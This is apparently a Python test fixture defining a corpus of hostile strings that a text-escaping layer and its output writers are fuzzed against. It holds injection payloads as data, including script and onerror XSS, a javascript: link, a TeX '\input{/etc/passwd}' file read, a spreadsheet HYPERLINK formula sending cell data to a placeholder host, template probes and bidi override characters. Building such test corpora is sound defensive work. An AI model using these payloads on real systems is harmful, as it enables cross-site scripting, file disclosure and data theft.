"""The one hostile corpus: what has broken a writer somewhere (markup, template and TeX syntax,
formula starts, control, bidi and invisible characters, non-characters, math dollars, very long
text). ``test_text.py`` runs it through every function of the text policy, ``test_fuzz.py``
through every output writer, so both face the same strings."""

from __future__ import annotations

from hypothesis import strategies as st

# Lone surrogates are not here: the reader refuses them before any writer sees them.
CORPUS = [
    "<script>window.__pwned=1</script>", "</script><!--", "}\n@preamble{\"\\input{/etc/passwd}\"}",
    "@misc{x,", "=HYPERLINK(\"http://x/?\"&A2)", "+1", "-1", "@SUM(1)", "\tindent", "\rCR", "'=quoted",
    "''", "'", "$x^2$", "US$5 bn … US$6 bn", "$", "\\frac{a}{b}", "{{ 7*7 }}", "{% raw %}", "\r\n", "a\nb",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\u202eevil\u202c", "\u2066iso\u2069", "zero\u200bwidth", "\ufeffBOM",
    "\ufffe\uffff", "\U0001fffe", "\x00\x08\x0b\x0c", "\x85\x9b", "**bold** _em_ `code`", "[x](javascript:alert(1))",
    "![img](https://t.example/pixel.gif)", "<img src=x onerror=alert(1)>", "&amp; &lt; &#x3C;", "| a | b |",
    "~~strike~~", "# heading", "1. item", "> quote", "line\u2028sep\u2029para", "日本語テキスト", "x" * 3000,
    "", " ",
]
TEXT = st.one_of(st.sampled_from(CORPUS), st.text(st.characters(exclude_categories=("Cs",)), max_size=60),
                 st.lists(st.sampled_from(CORPUS), min_size=2, max_size=4).map("".join))
